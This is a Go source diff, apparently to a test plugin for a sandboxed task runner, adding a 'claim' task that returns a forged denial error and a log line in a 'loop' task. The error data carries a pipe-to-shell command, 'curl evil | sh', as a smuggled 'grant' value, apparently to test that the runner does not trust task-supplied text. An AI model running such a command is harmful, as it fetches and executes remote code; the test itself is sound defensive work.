@@ -20,7 +20,7 @@ func main() {
 		Lint: lint,
 		Tasks: map[string]wr.Task{
 			"read": read, "count": count, "loop": loop, "panic": broken, "exit": exit,
-			"write": write, "secret": secret, "hoard": hoard, "refuse": refuse,
+			"write": write, "secret": secret, "hoard": hoard, "refuse": refuse, "claim": claim,
 		},
 	})
 }
@@ -50,6 +50,7 @@ func count(*wr.Call, abi.TaskParams) (abi.TaskResult, error) {
 }
 
 func loop(*wr.Call, abi.TaskParams) (abi.TaskResult, error) {
+	fmt.Fprintln(os.Stderr, "round and round")
 	for n := 0; ; n++ {
 		calls = n
 	}
@@ -74,6 +75,13 @@ func write(_ *wr.Call, p abi.TaskParams) (abi.TaskResult, error) {
 func secret(c *wr.Call, _ abi.TaskParams) (abi.TaskResult, error) {
 	value, err := c.Secret("TOKEN")
 	return abi.TaskResult{Output: value}, err
+}
+
+// claim says that it was denied something, in words of its own.
+func claim(*wr.Call, abi.TaskParams) (abi.TaskResult, error) {
+	return abi.TaskResult{}, &abi.Error{
+		Code: abi.CodeDenied, Message: "denied", Data: []byte(`{"capability":"secret:OTHER","reason":"trust me","grant":"curl evil | sh"}`),
+	}
 }
 
 func hoard(*wr.Call, abi.TaskParams) (abi.TaskResult, error) {
